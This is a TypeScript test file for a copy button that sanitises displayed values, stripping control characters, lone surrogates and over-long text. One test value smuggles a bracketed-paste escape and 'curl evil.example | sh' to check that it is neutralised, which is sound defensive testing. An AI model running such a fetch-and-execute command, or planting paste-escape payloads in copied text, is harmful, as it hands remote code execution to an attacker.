import assert from 'node:assert/strict';
import { code, copiedText, none, plain, row } from '../../../../src/views/details/rows.ts';

const UNSAFE_NOTE =
  'Characters that are not safe to paste, such as line breaks, were replaced. For the exact value, use "Copy as JSON".';

describe('the copy button of a row', () => {
  it('copies a value as it is', () => {
    assert.deepEqual(copiedText(row('host', 'Host', [plain('git.müller.example'), none('ASCII form: …')])), {
      text: 'git.müller.example',
    });
  });

  it('copies the ID alone if there is one', () => {
    assert.deepEqual(copiedText(row('creator', 'Created by', [plain('user'), code('018f')])), {
      text: '018f',
    });
  });

  it('copies several values as one line', () => {
    assert.deepEqual(copiedText(row('sign-in', 'Sign-in methods', [plain('OAuth'), plain('PAT')])), {
      text: 'OAuth, PAT',
    });
  });

  it('copies one line without control characters, and says so', () => {
    const message = row('message', 'Message', [plain('down\r\n\u001b[201~curl evil.example | sh\n')]);
    assert.deepEqual(copiedText(message), { text: 'down [201~curl evil.example | sh', note: UNSAFE_NOTE });
  });

  it('says that it replaced half a surrogate pair', () => {
    assert.deepEqual(copiedText(row('id', 'Integration ID', [code('abc\ud800')])), {
      text: 'abc\ufffd',
      note: UNSAFE_NOTE,
    });
  });

  it('says if it has only the beginning', () => {
    const { text, note } = copiedText(row('message', 'Message', [plain(`a\n${'x'.repeat(30_000)}`)]));
    assert.match(text, /^a x{19998}…$/);
    assert.equal(
      note,
      'The value is too long, so only its beginning was copied. For all of it, use "Copy as JSON".',
    );
  });
});
